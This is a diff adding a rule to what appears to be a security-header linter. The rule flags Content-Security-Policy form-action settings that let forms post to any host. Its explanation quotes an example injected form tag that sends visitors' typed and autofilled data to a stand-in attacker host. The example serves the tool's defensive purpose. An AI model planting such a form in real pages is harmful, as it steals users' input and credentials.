@@ -1,0 +1,37 @@
+#include "rules/csp/helpers.hpp"
+#include "rules/rule.hpp"
+
+namespace headstrong::rules::csp_form_action_any_host {
+
+using namespace csp_rules;
+
+void check(const Context& context, Sink& sink) {
+  const decide::PolicyDecision* by = allowed_by_source(context, Attempt::FormAction);
+  if (by == nullptr) return;
+  sink.at(*by->policy, by->source->span).arguments = {std::string(by->source->text),
+                                                      std::string(by->directive->name_text)};
+}
+
+const RuleSpec kRule = {
+    {
+        .id = "csp/form-action-any-host",
+        .header = "Content-Security-Policy",
+        .severity = Severity::Low,
+        .category = Category::Security,
+        .confidence = Confidence::Certain,
+        .title = "Forms may be sent to any host",
+        .message = "{0} in {1} lets forms be sent to hosts that anybody can rent.",
+        .why = "An injected <form action=\"https://attacker.example\"> around your fields, or "
+               "a formaction on a button, sends what visitors type (and what the browser "
+               "fills in) to the attacker, without any script.",
+        .advice = "Write form-action 'self' and the hosts that your forms are sent to.",
+        .references = {"https://www.w3.org/TR/CSP3/#directive-form-action",
+                       "https://developer.mozilla.org/docs/Web/HTTP/Reference/Headers/"
+                       "Content-Security-Policy/form-action"},
+        .bad = "default-src 'self'; form-action https:",
+        .good = "default-src 'self'; form-action 'self'",
+    },
+    check,
+};
+
+}  // namespace headstrong::rules::csp_form_action_any_host
